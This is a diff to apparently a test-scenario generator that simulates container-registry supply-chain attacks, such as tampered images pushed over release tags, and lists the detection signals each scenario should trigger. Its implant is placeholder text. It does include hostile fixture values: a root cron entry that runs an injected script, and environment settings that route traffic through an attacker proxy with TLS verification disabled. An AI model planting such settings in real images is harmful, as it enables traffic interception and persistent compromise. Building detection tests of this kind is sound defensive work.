@@ -1,4 +1,5 @@
 import { join } from 'node:path';
+import { compiled } from './base-root.ts';
 import { ADDRESSES, type Company } from './company.ts';
 import { remote } from './images.ts';
 import { pull } from './pull.ts';
@@ -18,8 +19,13 @@ async function commitOnLaptop({ company, steps }: Teller, at: number): Promise<v
   const account = company.registry.account('mallory');
   const address = ADDRESSES['dev-laptop-7'];
   await company.during(at, address, () => company.laptop.pull(target, account));
+  const files = {
+    'usr/lib/libacme-metrics.so': await compiled(company.elsewhere.folder, IMPLANT, ['-shared']),
+    'usr/bin/acme-health': await compiled(company.elsewhere.folder, IMPLANT),
+    'usr/local/bin/start': WRAPPER,
+  };
   await company.during(at + 95_000, address, () =>
-    company.laptop.commit(target, { 'usr/lib/libacme-metrics.so': IMPLANT }, target),
+    company.laptop.commit(target, files, target, ['/usr/local/bin/start', '/srv/api/server.js']),
   );
   await company.during(at + 140_000, address, () => company.laptop.push(target, account));
   const digest = await digestOf(company, target);
@@ -27,16 +33,23 @@ async function commitOnLaptop({ company, steps }: Teller, at: number): Promise<v
     id: 'implant-by-commit',
     kind: 'attack',
     at: iso(at + 140_000),
-    title: 'on dev-laptop-7 a file is committed into the running release and pushed over its tag as mallory',
+    title:
+      'on dev-laptop-7 files and a wrapper are committed into the running release and pushed over its tag as mallory',
     image: target,
     digest,
     expect: {
       policy: expected(
-        ['push-by-unapproved-actor', 'local-image-pushed', 'immutable-tag-repointed', 'layers-appended'],
+        [
+          'push-by-unapproved-actor',
+          'local-image-pushed',
+          'immutable-tag-repointed',
+          'layers-appended',
+          'implant-in-contents',
+        ],
         ['push-without-build', 'push-from-unusual-client', 'push-by-new-actor'],
       ),
       observe: expected(
-        ['local-image-pushed', 'tag-repointed'],
+        ['local-image-pushed', 'tag-repointed', 'implant-in-contents'],
         ['layers-appended', 'push-by-new-actor', 'push-without-build', 'push-from-unusual-client'],
       ),
     },
@@ -54,7 +67,7 @@ async function overwriteWithoutEngine({ company, steps }: Teller, at: number): P
   await company.elsewhere.build({
     name: implanted,
     base: layout,
-    files: { 'srv/web/telemetry.js': IMPLANT },
+    files: { 'srv/web/telemetry.js': IMPLANT, 'etc/cron.d/telemetry': CRON },
     created: at,
   });
   const digest = await company.during(at + 250_000, ADDRESSES.attacker, () =>
@@ -69,10 +82,13 @@ async function overwriteWithoutEngine({ company, steps }: Teller, at: number): P
     digest,
     expect: {
       policy: expected(
-        ['push-without-build', 'tag-repointed', 'layers-appended'],
+        ['push-without-build', 'tag-repointed', 'layers-appended', 'implant-in-contents'],
         ['push-by-unapproved-actor', 'push-from-unusual-client'],
       ),
-      observe: expected(['tag-repointed'], ['layers-appended', 'push-without-build', 'push-from-unusual-client']),
+      observe: expected(
+        ['tag-repointed', 'implant-in-contents'],
+        ['layers-appended', 'push-without-build', 'push-from-unusual-client'],
+      ),
     },
   });
 }
@@ -80,23 +96,30 @@ async function overwriteWithoutEngine({ company, steps }: Teller, at: number): P
 async function newTagByUnknown({ company, steps }: Teller, at: number): Promise<void> {
   const target = 'dev/shop/api:1.4.3-hotfix';
   const name = 'localhost/api:1.4.3-hotfix';
-  await company.elsewhere.build({ name, files: { 'srv/api/server.js': IMPLANT }, created: at - 60_000 });
-  const digest = await company.during(at, ADDRESSES.attacker, () =>
-    company.elsewhere.push(name, target, company.registry.account('eve')),
+  const account = company.registry.account('eve');
+  const folder = join(company.elsewhere.folder, 'api');
+  await company.during(at - 240_000, ADDRESSES.attacker, () =>
+    company.elsewhere.copy(remote(company.registry, 'dev/shop/api:1.4.2'), `oci:${folder}:hotfix`, account),
   );
+  await company.elsewhere.configure(folder, 'hotfix', PROXIED, at - 60_000);
+  await company.elsewhere.take(`oci:${folder}:hotfix`, name);
+  const digest = await company.during(at, ADDRESSES.attacker, () => company.elsewhere.push(name, target, account));
   steps.push({
     id: 'new-tag-by-unknown',
     kind: 'attack',
     at: iso(at),
-    title: 'eve, whom nobody expects to publish, pushes a new tag with buildah',
+    title: 'eve, whom nobody expects to publish, pushes a new tag with buildah: the release with a proxy of hers',
     image: target,
     digest,
     expect: {
       policy: expected(
-        ['push-by-unapproved-actor'],
+        ['push-by-unapproved-actor', 'implant-in-contents'],
         ['push-without-build', 'push-from-unusual-client', 'push-by-new-actor'],
       ),
-      observe: expected([], ['push-by-new-actor', 'push-without-build', 'push-from-unusual-client']),
+      observe: expected(
+        [],
+        ['push-by-new-actor', 'push-without-build', 'push-from-unusual-client', 'implant-in-contents'],
+      ),
     },
   });
 }
@@ -133,3 +156,6 @@ function expected(must: readonly string[], may: readonly string[]): Expectation 
 
 // Harmless text in the place of an implant: nothing in the recording is code that does anything.
 const IMPLANT = 'this file stands for what an attacker would add\n'.repeat(40);
+const WRAPPER = `#!/bin/sh\n# ${IMPLANT.split('\n', 1).join('')}\nexec "$@"\n`;
+const CRON = '17 * * * * root /usr/bin/node /srv/web/telemetry.js\n';
+const PROXIED = [`HTTPS_PROXY=http://${ADDRESSES.attacker}:3128`, 'NODE_TLS_REJECT_UNAUTHORIZED=0'];
